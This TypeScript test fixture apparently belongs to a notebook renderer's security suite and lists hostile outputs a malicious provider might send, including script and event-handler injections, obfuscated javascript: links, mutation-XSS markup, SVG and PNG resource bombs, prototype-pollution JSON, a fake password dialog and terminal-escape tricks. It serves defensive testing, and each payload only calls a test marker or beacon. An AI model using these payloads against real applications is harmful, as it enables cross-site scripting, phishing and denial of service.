/**
 * What a hostile provider may send as output: the attacks that were tried on JupyterLab 4.6 and B1 to B6 of the threat list.
 * Each calls `pkHit('<id>')` of the page or fetches from `beacon`; a page under test counts both. `control` marks those that
 * JupyterLab itself lets through in a trusted cell, so that a test can show that it would notice ('lab': only the whole
 * application does, by a renderer that one of its extensions brings).
 */
export interface Attack {
  id: string
  what: string
  /** As the fields of a `display_data` message. */
  data: Record<string, unknown>
  metadata?: Record<string, unknown>
  control?: true | 'lab'
  /** The harm needs a click; tests click every link and button of the output. */
  click?: boolean
}

const hit = (id: string): string => `(top.pkHit||parent.pkHit||pkHit)('${id}')`

/** `beacon` is an address whose requests the test counts; it ends where the attack's id is appended. */
export function attacks(beacon: string): Attack[] {
  const html = (id: string, what: string, source: string, rest: Partial<Attack> = {}): Attack => ({
    id,
    what,
    data: { 'text/html': source, 'text/plain': `${what} (text)` },
    ...rest
  })
  const load = (id: string): string => beacon + id
  const svg = (inner: string, attributes = ''): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" ${attributes}>${inner}</svg>`
  return [
    html('img-onerror', 'an image with an error handler', `<img src="x" onerror="${hit('img-onerror')}">`, {
      control: true
    }),
    html('script', 'an inline script', `<p>table</p><script>${hit('script')}</script>`, { control: true }),
    html('script-src', 'a script from elsewhere', `<script src="${load('script-src')}"></script>`, { control: true }),
    html('svg-onload', 'inline SVG with a load handler', svg('', `onload="${hit('svg-onload')}"`)),
    html(
      'svg-animate',
      'inline SVG with an animation handler',
      svg(`<animate attributeName="x" dur="1s" onbegin="${hit('svg-animate')}"/>`),
      {
        control: true
      }
    ),
    html(
      'iframe-srcdoc',
      'a frame with a document',
      `<iframe srcdoc="<script>${hit('iframe-srcdoc')}</script>"></iframe>`,
      {
        control: true
      }
    ),
    html(
      'javascript-link',
      'a link that runs',
      `<a target="_self" href="javascript:${hit('javascript-link')}">open</a>`,
      {
        control: true,
        click: true
      }
    ),
    html(
      'javascript-link-tab',
      'a link whose scheme hides a tab',
      `<a target="_self" href="java\tscript:${hit('javascript-link-tab')}">open</a>`,
      {
        control: true,
        click: true
      }
    ),
    html(
      'style',
      'a style sheet for the whole page',
      '<style>.jp-Notebook, body { display: none !important }</style>text'
    ),
    html('style-import', 'a style sheet from elsewhere', `<style>@import url("${load('style-import')}");</style>text`, {
      control: true
    }),
    html('style-url', 'a background from elsewhere', `<p style="background: url('${load('style-url')}')">text</p>`, {
      control: true
    }),
    html(
      'ids',
      'ids and names that shadow globals',
      '<a id="MathJax"></a><form name="jupyterapp"><input name="id"></form>text'
    ),
    html('beacon-img', 'an image from elsewhere', `<img src="${load('beacon-img')}">`, { control: true }),
    html('beacon-srcset', 'an image set from elsewhere', `<img src="data:," srcset="${load('beacon-srcset')} 1x">`, {
      control: true
    }),
    html('beacon-video', 'a video poster from elsewhere', `<video poster="${load('beacon-video')}"></video>`, {
      control: true
    }),
    html('beacon-link', 'a style sheet link', `<link rel="stylesheet" href="${load('beacon-link')}">text`, {
      control: true
    }),
    html('meta-refresh', 'a redirect', `<meta http-equiv="refresh" content="0;url=${load('meta-refresh')}">text`),
    html('base', 'a base address', `<base href="${beacon}"><img src="base">`),
    html(
      'commandlinker',
      'a button that runs a command',
      '<button data-commandlinker-command="pk-test:command">x</button>',
      {
        click: true
      }
    ),
    html('form', 'a form', `<form action="${load('form')}"><button>send</button></form>`, {
      click: true,
      control: true
    }),
    html(
      'dialog',
      'an imitation of a dialog',
      '<div class="jp-Dialog" style="position: fixed; inset: 0; z-index: 10000; background: red">Enter your password</div>'
    ),
    html(
      'negative-margin',
      'text that moves over others',
      '<div style="margin-top: -500px; width: 3000px">Trusted</div>'
    ),
    html(
      'mxss-noscript',
      'markup that changes when parsed twice',
      `<noscript><p title="</noscript><img src=x onerror=${hit('mxss-noscript')}>">`,
      {}
    ),
    html(
      'mxss-math',
      'namespace confusion',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit('mxss-math')}&gt;">`
    ),
    html('mxss-svg', 'a style in SVG', `<svg></p><style><a id="</style><img src=1 onerror=${hit('mxss-svg')}>">`, {
      control: true
    }),
    html(
      'template',
      'a declarative shadow root',
      `<div><template shadowrootmode="open"><img src=x onerror=${hit('template')}></template></div>`
    ),
    html('details', 'a toggle handler', `<details open ontoggle="${hit('details')}">x</details>`, { control: true }),
    html('animate', 'an animation handler', `<p style="animation: x 1s" onanimationstart="${hit('animate')}">x</p>`),
    html('custom-element', 'an unknown element', `<x-a onpointerenter="${hit('custom-element')}">x</x-a>`),
    html(
      'plain-text',
      'an unclosed raw text element',
      `<xmp><img src=x onerror=${hit('plain-text')}></xmp><plaintext>`
    ),
    html(
      'data-link',
      'a link to a document of its own',
      `<a href="data:text/html,<script>${hit('data-link')}</script>">x</a>`,
      {
        click: true
      }
    ),
    html('tex-link', 'a link made by TeX', `<p>$\\href{javascript:${hit('tex-link')}}{x}$</p>`, { click: true }),
    html('deep', 'very deep nesting', '<b>'.repeat(5000) + 'x'),
    { id: 'js-mime', what: 'a script type', data: { 'application/javascript': hit('js-mime') }, control: 'lab' },
    {
      id: 'js-text-mime',
      what: 'the other script type',
      data: { 'text/javascript': hit('js-text-mime') },
      control: 'lab'
    },
    {
      id: 'svg-mime',
      what: 'an SVG with script, handler and outside image',
      data: {
        'image/svg+xml': svg(
          `<script>${hit('svg-mime')}</script><image href="${load('svg-mime')}" width="9" height="9"/>` +
            `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${load('svg-mime')}"/></body></foreignObject>`,
          `onload="${hit('svg-mime')}"`
        )
      }
    },
    {
      id: 'svg-bomb',
      what: 'an SVG that grows without bound',
      data: {
        'image/svg+xml': svg(
          '<g id="a0"><rect width="1" height="1"/></g>' +
            Array.from({ length: 30 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join('')
        ),
        'text/plain': 'svg'
      }
    },
    {
      id: 'svg-entities',
      what: 'an SVG with entities',
      data: {
        'image/svg+xml': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
        'text/plain': 'svg'
      }
    },
    {
      id: 'widget',
      what: 'a widget view',
      data: {
        'application/vnd.jupyter.widget-view+json': { model_id: 'x', version_major: 2 },
        'text/plain': 'Slider(value=3)'
      }
    },
    {
      id: 'vega',
      what: 'a chart that loads its data',
      data: { 'application/vnd.vegalite.v5+json': { data: { url: load('vega') } }, 'text/plain': 'chart' }
    },
    {
      id: 'markdown-html',
      what: 'HTML in Markdown',
      data: { 'text/markdown': `# Title\n\n<img src=x onerror="${hit('markdown-html')}">` },
      control: true
    },
    {
      id: 'markdown-link',
      what: 'a link that runs in Markdown',
      data: { 'text/markdown': `[open](javascript:${hit('markdown-link')})` },
      click: true
    },
    {
      id: 'markdown-image',
      what: 'an image from elsewhere in Markdown',
      data: { 'text/markdown': `![x](${load('markdown-image')})` },
      control: true
    },
    {
      id: 'isolated',
      what: 'isolation asked for by metadata',
      data: { 'text/html': `<script>${hit('isolated')}</script>` },
      metadata: { 'text/html': { isolated: true, trusted: true }, isolated: true, trusted: true },
      control: true
    },
    {
      id: 'unconfined',
      what: 'a picture without bounds',
      data: {
        'image/png': 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
      },
      metadata: {
        'image/png': { unconfined: true, width: '100%', height: 1e9, needs_background: 'light' },
        unconfined: true
      }
    },
    {
      id: 'latex',
      what: 'LaTeX with a link',
      data: { 'text/latex': `$\\href{javascript:${hit('latex')}}{x}$` },
      click: true
    },
    {
      id: 'ansi',
      what: 'terminal escapes, a hidden link, reversed text',
      data: {
        'text/plain': `\x1b]8;;javascript:${hit('ansi')}\x07link\x1b]8;;\x07 \x1b[2J\x1b[8mhidden\x1b[0m \x1b]0;title\x07 \x9b31m \u202etxt.exe`
      },
      click: true
    },
    {
      id: 'plain-tags',
      what: 'tags in plain text',
      data: { 'text/plain': `<img src=x onerror="${hit('plain-tags')}">` }
    },
    {
      id: 'plain-link',
      what: 'an address in plain text that would run',
      data: { 'text/plain': `javascript://%0a${hit('plain-link')}` },
      click: true
    },
    {
      id: 'png-html',
      what: 'HTML that calls itself a picture',
      data: { 'image/png': btoa(`<script>${hit('png-html')}</script>`), 'text/plain': 'png' }
    },
    {
      id: 'png-bomb',
      what: 'a picture of 10^9 pixels',
      data: {
        'image/png': 'iVBORw0KGgoAAAANSUhEUgAAgAAAAIAACAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
        'text/plain': 'png'
      }
    },
    {
      id: 'json-proto',
      what: 'JSON with __proto__',
      data: { 'application/json': JSON.parse('{"__proto__":{"polluted":1},"a":1}') }
    },
    {
      id: 'forged-private',
      what: 'our own private type, forged',
      data: {
        'application/vnd.pekka.interactive+json': {
          v: 1,
          role: 'page',
          run: 'x',
          html: `<script>${hit('forged-private')}</script>`
        },
        'text/plain': 'private'
      }
    }
  ]
}

/** Exceptions that carry markup and escapes; asserted like the others. */
export const HOSTILE_ERROR = {
  ename: `<img src=x onerror="${hit('error-name')}">\x1b]8;;http://x\x07`,
  evalue: `</pre><script>${hit('error-value')}</script>\u202e`,
  traceback: [`\x1b[31m<b onclick="${hit('error-traceback')}">Traceback</b>\x1b[0m\x1b[2J`]
}
